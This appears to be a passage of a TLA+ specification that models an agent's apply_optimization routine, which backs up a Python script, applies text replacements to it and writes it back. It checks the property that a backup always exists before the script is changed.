\* what datetime.now().strftime("%Y%m%d_%H%M%S") can give during a call
Timestamps == {"20260101_000000", "20260101_000001"}

\* str.replace(old, new): every occurrence, found from the left and not
\* overlapping; an empty old matches before every character and at the end
RECURSIVE Replace(_, _, _)
Replace(s, old, new) ==
    IF old = ""
    THEN IF s = "" THEN new
         ELSE new \o SubSeq(s, 1, 1) \o Replace(SubSeq(s, 2, Len(s)), old, new)
    ELSE IF Len(s) < Len(old) THEN s
    ELSE IF SubSeq(s, 1, Len(old)) = old
    THEN new \o Replace(SubSeq(s, Len(old) + 1, Len(s)), old, new)
    ELSE SubSeq(s, 1, 1) \o Replace(SubSeq(s, 2, Len(s)), old, new)

\* A bug create_backup could have: the name of the backup is returned and
\* nothing is copied.
create_backup_names_only(f, file_path, timestamp) ==
    IF exists(f, file_path)
    THEN [raised |-> FALSE, fs |-> f,
          path |-> Some(path_join(backup_dir,
                       basename(file_path) \o "." \o timestamp \o ".bak"))]
    ELSE [raised |-> FALSE, fs |-> f, path |-> None]

\* create_backup(file_path): a file that exists is copied into backup_dir
\* under its name, the time and ".bak" and the path of the copy is
\* returned; None is returned for a file that does not exist; the copy
\* raises for a directory and for a backup directory that is gone
create_backup(f, file_path, timestamp) ==
    IF exists(f, file_path)
    THEN LET backup == path_join(backup_dir,
                           basename(file_path) \o "." \o timestamp \o ".bak")
             c == copy2(f, file_path, backup)
         IN  [raised |-> c.raised, fs |-> c.fs,
              path |-> IF c.raised THEN None ELSE Some(backup)]
    ELSE [raised |-> FALSE, fs |-> f, path |-> None]

\* the pair apply_optimization returns
Outcome(success, message) == Some([success |-> success, message |-> message])

\* the script of the project and its text
Script == "/w/agents/a.py"
ScriptText == "x = 1\ny = x"

\* the file systems a call can start in: the constructor has made backup_dir;
\* the script is there or not; a backup of the same second is there or not;
\* the backup directory has been removed since
EvolverFileSystems ==
    LET made == makedirs(makedirs(FsStart, backup_dir).fs, dirname(Script)).fs
        with == [made EXCEPT !.disk = (Script :> ScriptText) @@ @]
        old == path_join(backup_dir, "a.py.20260101_000000.bak")
    IN  { made, with,
          [with EXCEPT !.disk = (old :> "stale") @@ @],
          [with EXCEPT !.dirs = @ \ {backup_dir}] }

\* the paths apply_optimization is called with: the script, absolute and
\* relative, a file that does not exist, a directory
ScriptPaths == {Script, "agents/a.py", "/w/agents/b.py", "/w/agents"}

\* the changes a suggestion can hold: a dict with or without both keys
Changes ==
    { [old_code |-> "x", new_code |-> "xx"],
      [old_code |-> "1", new_code |-> ""],
      [old_code |-> "", new_code |-> "#"],
      [old_code |-> "q", new_code |-> "x"],
      [old_code |-> "x"],
      [new_code |-> "x"] }

ChangeLists ==
    UNION { [1..n -> Changes] : n \in 0..MaxChanges }

InitEvolver ==
    /\ agent = "evolver"
    /\ pc = "create_backup"
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ ExtractIdle
    /\ base_dir = ""
    /\ k = 0
    /\ fs \in EvolverFileSystems
    /\ saved_files = <<>>
    /\ writes = <<>>
    /\ prompts = <<>>
    /\ env = EnvStart
    /\ config = None
    /\ provider = ""
    /\ attempt = 0
    /\ posts = <<>>
    /\ reply = None
    /\ script_path \in ScriptPaths
    /\ suggested_changes \in ChangeLists
    /\ backup_path = None
    /\ updated_content = ""

\* apply_optimization, the backup: without one the call returns
\* (False, "Failed to create backup"); an exception of the copy is caught
\* and returned as (False, "Error: ...")
CreateBackup ==
    /\ pc = "create_backup"
    /\ \E timestamp \in Timestamps :
         \E b \in {create_backup(fs, script_path, timestamp)} :
           /\ fs' = b.fs
           /\ backup_path' = b.path
           /\ IF b.raised
              THEN /\ result' = Outcome(FALSE, "Error: " \o script_path)
                   /\ pc' = "returned"
              ELSE IF ~Truthy(b.path)
              THEN /\ result' = Outcome(FALSE, "Failed to create backup")
                   /\ pc' = "returned"
              ELSE /\ pc' = "read_script"
                   /\ UNCHANGED result
    /\ UNCHANGED <<providerVars, agent, gateLog, spawns, extractVars, runVars,
                   base_dir, k, saved_files, writes, script_path,
                   suggested_changes, updated_content>>

\* apply_optimization, the read of the current content
ReadScript ==
    /\ pc = "read_script"
    /\ IF abspath(script_path) \in DOMAIN fs.disk
       THEN /\ updated_content' = fs.disk[abspath(script_path)]
            /\ k' = 1
            /\ pc' = "replace"
            /\ UNCHANGED result
       ELSE /\ result' = Outcome(FALSE, "Error: " \o script_path)
            /\ pc' = "returned"
            /\ UNCHANGED <<updated_content, k>>
    /\ UNCHANGED <<providerVars, agent, gateLog, spawns, extractVars, runVars,
                   base_dir, fs, saved_files, writes, script_path,
                   suggested_changes, backup_path>>

\* apply_optimization, one turn of the loop over suggested_changes: a change
\* with both keys replaces its old code by its new code
ApplyChange ==
    /\ pc = "replace"
    /\ k <= Len(suggested_changes)
    /\ LET change == suggested_changes[k] IN
       updated_content' =
           IF "old_code" \in DOMAIN change /\ "new_code" \in DOMAIN change
           THEN Replace(updated_content, change.old_code, change.new_code)
           ELSE updated_content
    /\ k' = k + 1
    /\ UNCHANGED <<providerVars, agent, pc, execVars, extractVars, runVars,
                   base_dir, fs, saved_files, writes, script_path,
                   suggested_changes, backup_path>>

\* apply_optimization, the write of the updated content and the return
WriteScript ==
    /\ pc = "replace"
    /\ k > Len(suggested_changes)
    /\ \E w \in {write_file(fs, script_path, updated_content)} :
         /\ fs' = w.fs
         /\ IF w.raised
            THEN /\ result' = Outcome(FALSE, "Error: " \o script_path)
                 /\ UNCHANGED writes
            ELSE /\ result' = Outcome(TRUE,
                        "Optimizations applied. Backup saved at " \o backup_path[1])
                 /\ writes' = Append(writes,
                        [index |-> 0, filename |-> script_path,
                         at |-> abspath(script_path), content |-> updated_content])
    /\ pc' = "returned"
    /\ UNCHANGED <<providerVars, agent, gateLog, spawns, extractVars, runVars,
                   base_dir, k, saved_files, script_path, suggested_changes,
                   backup_path, updated_content>>

NextEvolver == CreateBackup \/ ReadScript \/ ApplyChange \/ WriteScript

SpecEvolver == InitEvolver /\ [][NextEvolver]_vars

\* the content of the script in the file system f, None when it is not a
\* regular file there
ScriptIn(f) == IF abspath(script_path) \in DOMAIN f.disk
               THEN Some(f.disk[abspath(script_path)]) ELSE None

ScriptOnDisk == ScriptIn(fs)

\* the backup that backup_path names is on disk
BackupOnDisk == /\ backup_path # None
                /\ abspath(backup_path[1]) \in DOMAIN fs.disk

\* C30: apply_optimization writes the script only when a backup copy was made
\* earlier in the same call: at every step that changes the script or
\* records a write, backup_path names a file of backup_dir that holds the
\* content the script had before the step. A call that gets no backup
\* returns (False, message) with no write made, and for a file that does not
\* exist the message is "Failed to create backup" and the file system is
\* as it was.
C30_BackupBeforeWrite ==
    /\ [][ (ScriptIn(fs') # ScriptOnDisk \/ writes' # writes) =>
             /\ BackupOnDisk
             /\ dirname(abspath(backup_path[1])) = backup_dir
             /\ abspath(backup_path[1]) # abspath(script_path)
             /\ Some(fs.disk[abspath(backup_path[1])]) = ScriptOnDisk ]_vars
    /\ [][ (pc' = "returned" /\ backup_path' = None) =>
             /\ result' # None
             /\ ~result'[1].success
             /\ writes' = <<>>
             /\ ScriptIn(fs') = ScriptOnDisk ]_vars
    /\ [][ (pc = "create_backup" /\ ~exists(fs, script_path)) =>
             /\ result' = Outcome(FALSE, "Failed to create backup")
             /\ pc' = "returned"
             /\ fs' = fs ]_vars

\* a call has returned after it changed the script, the backup on disk
\* holding the text the script had before
C30_Witness ==
    /\ pc = "returned"
    /\ writes # <<>>
    /\ result[1].success
    /\ BackupOnDisk
    /\ fs.disk[abspath(backup_path[1])] = ScriptText
    /\ ScriptOnDisk # Some(ScriptText)

\* a call for a file that does not exist has returned its failure
NoBackupReturned ==
    /\ pc = "returned"
    /\ ~exists(fs, script_path)
    /\ result = Outcome(FALSE, "Failed to create backup")

====
